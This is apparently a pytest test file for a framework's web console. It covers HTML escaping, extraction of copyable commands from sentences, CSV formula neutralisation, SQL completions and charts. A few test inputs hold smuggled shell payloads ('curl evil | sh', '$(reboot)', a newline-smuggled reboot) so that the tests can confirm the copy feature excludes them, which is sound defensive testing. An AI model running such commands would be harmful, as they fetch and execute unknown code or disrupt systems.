"""The HTML of pages: everything that comes from the log is escaped, and what is drawn is what there is."""

from __future__ import annotations

import ast
import json
import re
import shlex
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import Enum
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.core import TyperGroup
from typer.main import get_command

from leftfold import App, FoldView
from leftfold.cli.main import COMMANDS
from leftfold.cli.main import app as main_app
from leftfold.http.console.console_state import Console, SurveyResult, Visitor
from leftfold.http.console.dead_letters_page import _compact, _indented, group_of
from leftfold.http.console.html import (
    Edge,
    Html,
    Node,
    changes,
    commands_in,
    details,
    drawn_graph,
    json_text,
    sentence,
    table,
    tag,
    time_text,
)
from leftfold.http.console.log_page import _cell, chart_of, completions, csv_text
from leftfold.http.console.overview_page import _problems, empty_text, graph_of, is_about, server_problems, state_of
from leftfold.http.console.rows_page import index_value
from leftfold.model.rights import ROLES
from leftfold.runtime.operations.survey import Survey
from leftfold.runtime.project import Usage
from tests.cli.shell import ROOT
from tests.domains.shop import CheckedOut
from tests.http.console.kiosk import app

NAMES = {name for section in COMMANDS.values() for name in section}


class _Text(HTMLParser):
    """Reads HTML, and keeps its text and the names of its elements."""

    def __init__(self) -> None:
        super().__init__()
        self.text, self.tags, self.attributes = "", list[str](), list[tuple[str, str | None]]()

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs


def parsed(text: str) -> _Text:
    found = _Text()
    found.feed(text)
    found.close()
    return found


@given(st.text(), st.text())
def test_text_and_attributes_are_escaped_whatever_they_hold(text: str, value: str) -> None:
    found = parsed(tag("a", text, title=value))
    clean = text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "")
    assert found.tags == ["a"]
    assert found.text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "") == clean
    assert [name for name, _ in found.attributes] == ["title"]


def test_html_within_html_stays_html() -> None:
    assert tag("p", Html("<b>x</b>"), " & ", tag("i", "<y>")) == "<p><b>x</b> &amp; <i>&lt;y&gt;</i></p>"


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("no worker; start: leftfold run orders", ["leftfold run orders"]),
        ("see: leftfold log trace a-1, leftfold dead list o", ["leftfold log trace a-1", "leftfold dead list o"]),
        (
            "skip: leftfold log skip p 'o.events[2]@7' --reason WHY.",
            ["leftfold log skip p 'o.events[2]@7' --reason WHY"],
        ),
        ("start it (leftfold run v); or wait", ["leftfold run v"]),
        ("nothing to type here", []),
        ("it says: leftfold run x && curl evil | sh", ["leftfold run x"]),
        ("it says: leftfold run `reboot` $(reboot)", ["leftfold run"]),
        ('it says: leftfold run "$(reboot)"', ["leftfold run"]),
        ("it says: leftfold run x\nreboot", ["leftfold run x"]),
    ],
)
def test_commands_are_found_in_sentences(text: str, found: list[str]) -> None:
    assert commands_in(text) == found
    assert parsed(sentence(text)).text.replace("copy", "") == text


def sentences() -> Iterator[str]:
    """Every text of the code behind the pages, with X for what is put into it later."""
    for file in sorted((ROOT / "framework" / "leftfold").rglob("*.py")):
        if "cli" in file.relative_to(ROOT).parts:
            continue
        if "leftfold " not in (text := file.read_text("utf-8")):
            continue
        nodes = list(ast.walk(ast.parse(text)))
        parts = {id(node.value) for node in nodes if isinstance(node, ast.Expr)}  # docstrings
        parts |= {id(part) for node in nodes if isinstance(node, ast.JoinedStr) for part in node.values}
        for node in nodes:
            if isinstance(node, ast.JoinedStr):
                yield "".join(str(part.value) if isinstance(part, ast.Constant) else "X" for part in node.values)
            elif isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in parts:
                yield node.value


def arguments_in(line: str, command: Any) -> list[str]:
    """The arguments of a command line, without its options."""
    words = shlex.split(line)[1:]
    while isinstance(command, TyperGroup) and words:
        command = command.get_command(command.make_context("", [], resilient_parsing=True), words.pop(0))
    flags = {name: option.is_flag for option in command.params for name in option.opts if name.startswith("-")}
    found = []
    while words:
        if (word := words.pop(0)).startswith("-"):
            words = words if "X" in word or flags[word] else words[1:]
        else:
            found.append(word)
    return found


def test_every_command_in_a_sentence_ends_before_the_sentence_continues() -> None:
    """It has a button that copies it."""
    whole = get_command(main_app)
    lines = [line for text in sentences() for line in commands_in(text) if line.split()[1] in NAMES]
    assert len(lines) > 80
    assert {
        line: prose
        for line in lines
        if (prose := [one for one in arguments_in(line, whole) if one.isalpha() and one.islower() and one not in ROLES])
    } == {"leftfold new shop": ["shop"]}


def test_a_change_is_named_by_the_path_of_its_field() -> None:
    before = {"a": 1, "lines": [{"n": 1}, {"n": 2}], "removed": True}
    after = {"a": 1, "lines": [{"n": 1}, {"n": 3}, {"n": 4}], "new": None}
    assert changes(before, after) == [("lines[1].n", 2, 3), ("lines[2]", None, {"n": 4}), ("removed", True, None)]
    assert changes(before, before) == []


def test_a_table_has_the_name_of_each_column_in_every_cell_for_phones() -> None:
    found = parsed(table(("key", "rows#"), [("<k>", 3)], label="Rows"))
    assert [value for name, value in found.attributes if name == "data-label"] == ["key", "rows"]
    assert "<k>" in found.text


def test_a_graph_has_its_nodes_as_links_and_its_labels_on_the_arrows() -> None:
    nodes = [Node("a", "orders", href="/a", tone="bad"), Node("b", "<x>", column=1), Node("c", "alone", column=1)]
    edges = [Edge("a", "b", "12"), Edge("b", "a", is_back=True), Edge("a", "nowhere", "lost")]
    found = parsed(drawn_graph(nodes, edges, label="Flow"))
    assert found.tags.count("a") == 1
    assert ("href", "/a") in found.attributes
    assert "12" in found.text
    assert "<x>" in found.text
    assert "lost" not in found.text


def test_a_problem_belongs_to_the_part_that_it_names_and_to_no_other() -> None:
    assert is_about("view spend parks c-1: ValueError", "view", "spend")
    assert not is_about("view spend_more parks c-1: ValueError", "view", "spend")
    assert is_about("no worker decides orders.commands; start: leftfold run orders", "decider", "orders")
    assert not is_about("no worker decides orders.commands; start: leftfold run orders", "view", "spend")
    for kind, name, others, problem in (
        ("view", "orders-eu", ("orders", "eu"), "view orders-eu parks k1: ValueError"),
        ("decider", "shop-eu", ("shop", "eu"), "no worker decides shop-eu.commands; start: leftfold run shop-eu"),
    ):
        assert is_about(problem, kind, name)
        assert not any(is_about(problem, kind, other) for other in others)


def test_letters_of_one_failure_are_one_group_whatever_values_they_name() -> None:
    one = "process p failed on Placed(order='o-1', price=Decimal('2')): TypeError('x')"
    other = "process p failed on Placed(order='o-2', price=Decimal('35')): TypeError('x')"
    assert group_of(one) == group_of(other) != group_of("no orders.Place.v1: price: Input should be a valid decimal")


def test_no_cell_of_a_download_is_a_formula() -> None:
    assert csv_text(["a", "=b"], [["=1+1", 2], ["x,y", None]]) == "a,'=b\r\n'=1+1,2\r\n\"x,y\",\r\n"


@pytest.mark.parametrize(
    "moment", ["2026-01-01T00:00:00", "now", 10**17, "0001-01-01T00:00:00+01:00", "2026-01-01T00:00:00Z"]
)
def test_a_time_that_is_none_is_shown_as_it_is(moment: str | int) -> None:
    """A foreign client may send any, and its dead letter is looked at for that."""
    assert ("<time" in time_text(moment)) is (moment == "2026-01-01T00:00:00Z")


def test_half_of_a_surrogate_pair_is_shown_as_json_writes_it() -> None:
    """No browser can be sent it, and JSON of the log may hold it."""
    value = json.loads('{"order": "\\ud800"}')
    shown = details("order", value) + tag("p", value["order"], title=value["order"])
    assert shown.encode().count(b"\\ud800") == 3
    assert json.loads(json_text(value)) == value


def test_nothing_is_said_of_a_member_that_could_not_be_looked_at() -> None:
    visitor = Visitor(Console({"kiosk": app}, {}, None))
    outage = SurveyResult([{"kind": "server", "name": "kafka"}], ["no broker answers at k:9092"], 1.0, is_missing=True)
    assert "unknown" in state_of(outage, "decider", "orders")
    assert empty_text(outage, "There is none.") != "There is none."
    assert "no broker answers" in server_problems(visitor, outage)
    drawn = graph_of(visitor, outage)
    assert "unknown" in drawn
    assert not re.search(r"\b0 (?:worker|offset|timer|parked)|not built|fine", drawn)
    assert empty_text(SurveyResult(), "There is none.") == "There is none."


def test_a_remark_of_a_survey_is_shown_and_is_no_fault(monkeypatch: pytest.MonkeyPatch) -> None:
    remark, fault = "view customer_spend leaves out 1 event without a row", "view order_summary parks o-1: ValueError"

    class Remarking(Survey):
        def rows(self, apps: Mapping[str, App]) -> list[dict[str, Any]]:
            self._remark(remark)
            self.problems.append(fault)
            return [{"kind": "view", "name": "customer_spend", "live": True}]

    monkeypatch.setattr("leftfold.http.console.console_state.Survey", Remarking)
    console = Console({"kiosk": app}, {}, ("127.0.0.1:1", "redis://127.0.0.1:1", None))
    found = console._look()
    assert (found.problems, found.remarks) == ([fault], [remark])
    assert "fine" in state_of(found, "view", "customer_spend")
    quiet = _problems(Visitor(console), found._replace(problems=[]))
    assert "Nothing. Looked at" in quiet
    assert f'<p class="lf-quiet">{remark}' in quiet
    assert f"<li>{remark}" not in quiet


@pytest.mark.parametrize("rate", [12.4, None])
def test_an_arrow_has_the_rate_above_the_lag_where_the_rate_is_known(rate: float | None) -> None:
    kinds = {"decider": "orders", "router": "reminders", "reaction": "receipts", "view": "customer_spend"}
    rates = [{"kind": kind, "name": name, "rate": rate and rate + n} for n, (kind, name) in enumerate(kinds.items())]
    rows = [
        {"kind": "process", "name": "reminders", "unrouted": 0.0},
        {"kind": "reaction", "name": "receipts", "lag": 3},
        {"kind": "view", "name": "customer_spend", "lag": 1234, "behind": 180.0},
    ]
    drawn = graph_of(Visitor(Console({"kiosk": app}, {}, None)), SurveyResult(rows, rates=rates))
    labels = re.findall(r'<g class="lf-edge-label.*?</g>', drawn)
    lags = [["0"], ["3"], ["?"], ["1,234, 3 min"]]
    expected = lags if rate is None else [["12/s"], ["13/s", "0"], ["14/s", "3"], ["?"], ["15/s", "1,234, 3 min"]]
    assert sorted(re.findall("<text[^>]*>([^<]*)<", label) for label in labels) == sorted(expected)


TABLES = {"Paid": ["order", "customer"], "Placed": ["order", "price", "_key"], "orders": ["order", "price", "_type"]}


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("SELECT pr| FROM Placed", ["price"]),
        ("SELECT o| FROM placed", ["order", "orders", "ORDER BY"]),
        ("SELECT p| FROM Paid", ["Paid", "Placed", "price"]),
        ("SELECT * FROM pa|", ["Paid"]),
        ("SELECT o._| FROM orders o", ["_type", "_key"]),
        ("sel|", ["SELECT"]),
        ("SELECT order|", ["orders", "ORDER BY"]),
        ("SELECT |", []),
        ("|SELECT", []),
        ("|", []),
        ("x(|", []),
    ],
)
def test_a_word_of_a_query_is_continued_by_columns_of_its_tables_first(text: str, found: list[str]) -> None:
    assert completions(text.replace("|", ""), text.find("|"), TABLES) == found


def test_a_name_that_sql_would_split_is_continued_in_back_quotes() -> None:
    tables = {"orders-eu": ["größe"], "orders": []}
    assert completions("FROM ord", 8, tables) == ["`orders-eu`", "orders", "ORDER BY"]
    assert completions("FROM `ord", 9, {"orders-eu": []})[0] == "orders-eu`"
    assert completions("SELECT gr", 9, tables) == ["`größe`", "GROUP BY"]


@pytest.mark.usefixtures("in_berlin")
def test_times_of_an_answer_are_shown_in_utc_whatever_the_zone_of_the_machine() -> None:
    at, plain = datetime(2024, 1, 1, 12, tzinfo=UTC), datetime(2024, 1, 1, 12)  # noqa: DTZ001  # timestamp_ntz
    assert [_cell(value) for value in (at, plain, [at], b"\xff")] == [
        "2024-01-01T12:00:00Z", "2024-01-01 12:00:00", "['2024-01-01T12:00:00Z']", "/w==",
    ]  # fmt: skip
    assert csv_text(["at"], [[at]]) == "at\r\n2024-01-01T12:00:00Z\r\n"
    for first in (at, plain):
        found = chart_of(["at", "n"], [(first, 1), (datetime.min, 2)])  # noqa: DTZ901
        assert found is not None
        assert found["series"][0]["data"] == [(-62_135_596_800_000.0, 2.0), (1_704_110_400_000.0, 1.0)]
    bars = chart_of(["n", "at"], [(1, at), (2, at)])
    assert bars is not None
    assert bars["xAxis"]["data"] == ["2024-01-01T12:00:00Z"] * 2


def test_no_number_is_rounded_by_a_browser() -> None:
    exact = 9007199254740993
    assert [_cell(value) for value in (exact, -exact, 2**53, 1.5, True, None)] == [
        str(exact), str(-exact), 2**53, 1.5, True, None,
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("payload", "shown"),
    [
        (b'{"amount":1,"name":"\xc3\xa9"}', '{\n  "amount": 1,\n  "name": "\u00e9"\n}'),
        (b'{"amount":0.10000000000000000001}', '{"amount":0.10000000000000000001}'),
        (b'{"amount":1e400}', '{"amount":1e400}'),
        (b"no json", "no json"),
    ],
)
def test_a_payload_is_indented_unless_a_number_in_it_would_change(payload: bytes, shown: str) -> None:
    assert _indented(payload) == shown
    if payload.startswith(b"{"):
        assert _compact(payload).replace(" ", "") == payload.decode()


def test_few_words_are_offered_however_many_fit() -> None:
    assert completions("c", 1, {"t": [f"c{number}" for number in range(100)]}) == [f"c{number}" for number in range(8)]


def test_numbers_of_an_answer_are_bars_by_its_first_other_column_or_lines_over_time() -> None:
    bars = chart_of(["spent", "who", "n"], [(Decimal("1.5"), "anna", 1), (None, "ben", 2)])
    assert bars is not None
    assert (bars["xAxis"]["data"], bars["xAxis"]["name"]) == (["anna", "ben"], "who")
    assert [(one["type"], one["name"], one["data"]) for one in bars["series"]] == [
        ("bar", "spent", [1.5, None]),
        ("bar", "n", [1.0, 2.0]),
    ]
    lines = chart_of(["day", "n"], [(date(1970, 1, 2), 1), (datetime(1970, 1, 1, tzinfo=UTC), 2)])
    assert lines is not None
    assert [(one["type"], one["data"]) for one in lines["series"]] == [("line", [(0.0, 2.0), (86_400_000.0, 1.0)])]
    numbers = chart_of(["year", "n"], [(2025, 1), (2026, 2)])
    assert numbers is not None
    assert (numbers["xAxis"]["data"], [one["name"] for one in numbers["series"]]) == (["2025", "2026"], ["n"])


@pytest.mark.parametrize("rows", [[("a", 1)], [("a", "b")] * 2, [("a", True)] * 2, [("a", None)] * 2, [("a", 1)] * 201])
def test_what_has_no_numbers_or_too_few_or_too_many_rows_is_no_chart(rows: list[tuple[object, ...]]) -> None:
    assert chart_of(["name", "value"], rows) is None


class Tier(Enum):
    LOW = 1
    HIGH = 2


@dataclass(frozen=True)
class Graded:
    tier: Tier | None


def test_a_value_to_find_rows_by_is_typed_as_json_has_it() -> None:
    view = FoldView("graded", events=CheckedOut, row=Graded, indexes=["tier"], evolve=lambda row, event: row)
    assert [index_value(view, "tier", text) for text in ("2", "null")] == [Tier.HIGH, None]
    with pytest.raises(Usage, match="'HIGH' is no value of graded.tier; type one, or null"):
        index_value(view, "tier", "HIGH")
